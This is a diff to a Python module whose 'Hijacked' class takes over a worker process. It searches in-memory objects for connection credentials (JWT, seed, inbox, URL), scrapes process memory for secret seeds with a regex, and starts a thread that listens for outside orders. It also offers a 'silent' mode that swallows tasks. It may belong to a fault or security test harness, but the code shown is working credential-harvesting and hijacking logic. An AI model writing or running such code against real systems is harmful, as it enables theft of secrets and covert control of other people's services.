@@ -21,7 +21,6 @@ import queue
 import re
 import secrets
 import socket
-import sys
 import threading
 import time
 import traceback
@@ -63,7 +62,7 @@ class Hijacked:
         mood: What its handler does with a task: ``honest``, or ``silent``, which never returns.
     """
 
-    node: str
+    node: str = ""
     url: str = ""
     jwt: str = ""
     seed: str = ""
@@ -80,6 +79,7 @@ class Hijacked:
         for found in gc.get_objects():
             if type(found).__name__ == "Connection" and hasattr(found, "_credentials"):
                 credentials = found._credentials
+                self.node = found.name
                 self.url = found._url
                 self.jwt, self.seed, self.inbox = credentials.jwt, credentials.seed, credentials.inbox
 
@@ -94,7 +94,9 @@ class Hijacked:
                 begin, end = (int(place, 16) for place in span.split("-"))
                 with contextlib.suppress(OSError, ValueError, OverflowError):
                     memory.seek(begin)
-                    seeds |= {m.decode() for m in re.findall(rb"S[OAU][A-Z2-7]{56}", memory.read(end - begin))}
+                    seeds |= {
+                        m.decode() for m in re.findall(rb"S[OAU][A-Z2-7]{56}", memory.read(end - begin))
+                    }
         return seeds
 
     @contextlib.asynccontextmanager
@@ -208,14 +210,14 @@ async def _coroutine(awaitable: Awaitable[None]) -> None:
 
 def handler(folder: Path) -> Callable[[Task], Coroutine[Any, Any, Any]]:
     """The handler; it begins to look for orders with its first task."""
-    node = sys.argv[-1]
-    hijacked = Hijacked(node)
+    hijacked = Hijacked()
     begun = threading.Event()
 
     async def decide(task: Task) -> Any:
         if not begun.is_set():
             begun.set()
-            threading.Thread(target=_listen, args=(folder / node, hijacked), daemon=True).start()
+            hijacked.look_around()
+            threading.Thread(target=_listen, args=(folder / hijacked.node, hijacked), daemon=True).start()
         return await hijacked.decide(task)
 
     return decide
